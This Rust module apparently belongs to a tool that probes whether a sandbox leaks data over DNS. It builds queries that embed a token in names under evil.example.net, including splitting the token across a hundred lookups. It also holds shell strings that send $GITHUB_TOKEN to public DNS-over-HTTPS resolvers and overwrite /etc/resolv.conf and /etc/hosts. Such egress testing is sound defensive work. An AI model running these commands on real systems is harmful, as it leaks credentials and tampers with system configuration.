//! Names as a channel: what is asked of a resolver, in every type and by every way to one.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};

use super::Channel::Dns;
use super::Control::{Absent, Arrives};
use super::{Attempt, Way, dials, shell, web};
use crate::answer::{Answer, Reply};
use crate::probe::{Knowledge, PATIENCE};
use crate::upstream::Record;

/// By what a question goes to a resolver.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Over {
    /// A datagram.
    Udp,
    /// A connection.
    Tcp,
}

pub(super) const ATTEMPTS: &[Attempt] = &[
    dials("look up a name that holds the token", Dns, 7, Absent, by_libc).may_be_closed(),
    asks_for("ask a resolver of its own for an address", 7, Over::Udp, |knowledge| of_kinds(knowledge, &[1])),
    asks_for("ask for a TXT record", 7, Over::Udp, |knowledge| of_kinds(knowledge, &[16])),
    asks_for("ask for MX, SRV, NS, CNAME and NULL records", 7, Over::Udp, |knowledge| of_kinds(knowledge, &[15, 33, 2, 5, 10])),
    asks_for("ask for HTTPS and SVCB records", 20, Over::Udp, |knowledge| {
        [64, 65].into_iter().map(|kind| query(&knowledge.bound, kind)).collect()
    }),
    asks_for("ask for every record at once", 7, Over::Udp, |knowledge| of_kinds(knowledge, &[255])),
    asks_for("ask with a name of 250 bytes", 7, Over::Udp, long_name),
    asks_for("ask over TCP", 7, Over::Tcp, |knowledge| of_kinds(knowledge, &[16])),
    asks_for("ask for a zone's transfer", 7, Over::Tcp, |knowledge| of_kinds(knowledge, &[252])),
    asks_for("ask a hundred names, a piece of the token each", 7, Over::Udp, pieces),
    asks_for("ask backwards for the gateway's address", 7, Over::Udp, backwards),
    web(
        "ask a resolver over HTTPS",
        Dns,
        7,
        Absent,
        &["curl"],
        "$C \"https://dns.google/resolve?name=$GITHUB_TOKEN.evil.example.net&type=TXT\"; $C -H 'accept: application/dns-json' \"https://1.1.1.1/dns-query?name=$GITHUB_TOKEN.evil.example.net\"",
    ),
    shell(
        "ask a resolver over TLS",
        Dns,
        7,
        Absent,
        &["openssl"],
        "timeout 3 openssl s_client -connect 9.9.9.9:853 </dev/null; timeout 3 openssl s_client -connect dns.quad9.net:853 </dev/null",
    ),
    shell(
        "change the resolver",
        Dns,
        7,
        Absent,
        &["getent"],
        "echo nameserver 192.0.2.53 >/etc/resolv.conf; echo 192.0.2.1 $BOUND >>/etc/hosts; cat /etc/resolv.conf /etc/hosts; getent ahosts $BOUND; RES_OPTIONS='use-vc' getent ahosts x.evil.example.net",
    ),
];

const fn asks_for(name: &'static str, threat: u8, over: Over, questions: fn(&Knowledge) -> Vec<Vec<u8>>) -> Attempt {
    Attempt { name, channel: Dns, threat, control: Arrives, answer: Answer::OrClosed, way: Way::Questions { over, questions } }
}

/// That there is no such name is an answer; that nobody said so is none.
fn by_libc(knowledge: &Knowledge) -> Vec<Reply> {
    let found = (name(knowledge).as_str(), 443).to_socket_addrs().map(Iterator::collect::<Vec<_>>);
    vec![match found {
        Err(error) if error.to_string().contains(NOBODY_ANSWERED) => Reply::unable(&error.to_string()),
        found => Reply::of(Ok(format!("{found:?}").into_bytes())),
    }]
}

fn of_kinds(knowledge: &Knowledge, kinds: &[u16]) -> Vec<Vec<u8>> {
    kinds.iter().map(|kind| query(&name(knowledge), *kind)).collect()
}

fn long_name(knowledge: &Knowledge) -> Vec<Vec<u8>> {
    let label = label(knowledge);
    let long: Vec<&str> = std::iter::repeat_n(label.as_str(), 5).collect();
    vec![query(&format!("{}.evil.example.net", long.join(".")), 1)]
}

fn pieces(knowledge: &Knowledge) -> Vec<Vec<u8>> {
    let label = label(knowledge);
    let each = label.as_bytes().windows(4).take(100);
    each.map(|piece| query(&format!("{}.evil.example.net", String::from_utf8_lossy(piece)), 28)).collect()
}

fn backwards(_: &Knowledge) -> Vec<Vec<u8>> {
    let names = ["1.0.18.198.in-addr.arpa", "254.169.254.169.in-addr.arpa", "1.0.0.127.in-addr.arpa"];
    names.map(|name| query(name, 12)).to_vec()
}

fn label(knowledge: &Knowledge) -> String {
    knowledge.token().chars().filter(char::is_ascii_alphanumeric).take(40).collect()
}

fn name(knowledge: &Knowledge) -> String {
    format!("{}.evil.example.net", label(knowledge))
}

/// A question (RFC 1035, section 4.1).
fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
    for part in name.split('.') {
        query.push(u8::try_from(part.len()).unwrap_or(0));
        query.extend_from_slice(part.as_bytes());
    }
    query.push(0);
    query.extend_from_slice(&kind.to_be_bytes());
    query.extend_from_slice(b"\x00\x01");
    query
}

impl Over {
    /// A question as it goes over the wire.
    pub(crate) fn framed(self, question: &[u8]) -> Vec<u8> {
        match self {
            Self::Udp => question.to_vec(),
            Self::Tcp => [&u16::try_from(question.len()).unwrap_or(0).to_be_bytes(), question].concat(),
        }
    }

    /// Whether every question was heard as it goes over the wire, and was the whole of what was said.
    pub(crate) fn all_heard(self, questions: &[Vec<u8>], heard: &[Record]) -> bool {
        !questions.is_empty() && questions.iter().all(|question| heard.iter().any(|record| record.bytes == self.framed(question)))
    }

    /// Sends a question, and waits for what is answered where somebody is there to answer.
    pub(crate) fn ask(self, question: &[u8], waits: bool) -> Reply {
        let framed = self.framed(question);
        Reply::of(match self {
            Self::Udp => over_udp(&framed, waits),
            Self::Tcp => over_tcp(&framed, waits),
        })
    }
}

fn over_udp(question: &[u8], waits: bool) -> io::Result<Vec<u8>> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send_to(question, SocketAddr::from(RESOLVER))?;
    let mut answer = [0; 4096];
    let length = if waits { socket.recv_from(&mut answer)?.0 } else { 0 };
    Ok(answer[..length].to_vec())
}

fn over_tcp(question: &[u8], waits: bool) -> io::Result<Vec<u8>> {
    let mut stream = TcpStream::connect_timeout(&SocketAddr::from(RESOLVER), PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(question)?;
    let mut answer = Vec::new();
    if waits {
        stream.read_to_end(&mut answer)?;
    }
    Ok(answer)
}

/// A documentation address (RFC 5737): outside a devbox nobody is there.
const RESOLVER: ([u8; 4], u16) = ([192, 0, 2, 53], 53);
/// How libc says that no resolver spoke (getaddrinfo(3), EAI_AGAIN).
const NOBODY_ANSWERED: &str = "Temporary failure";

#[cfg(test)]
mod tests {
    use std::net::IpAddr;

    use super::*;

    #[test]
    fn a_question_is_heard_by_its_own_way_and_whole() {
        let record = |bytes: Vec<u8>| Record { host: String::new(), line: String::new(), bytes, dialled: IpAddr::from([127, 0, 0, 1]) };
        let (asked, other) = (query("a.example.com", 16), query("b.example.com", 16));
        let heard = [record(asked.clone()), record(Over::Tcp.framed(&other))];
        assert!(Over::Udp.all_heard(std::slice::from_ref(&asked), &heard) && Over::Tcp.all_heard(std::slice::from_ref(&other), &heard));
        assert!(!Over::Tcp.all_heard(std::slice::from_ref(&asked), &heard) && !Over::Udp.all_heard(std::slice::from_ref(&other), &heard));
        assert!(!Over::Udp.all_heard(&[asked, other], &heard) && !Over::Udp.all_heard(&[], &heard));
    }
}
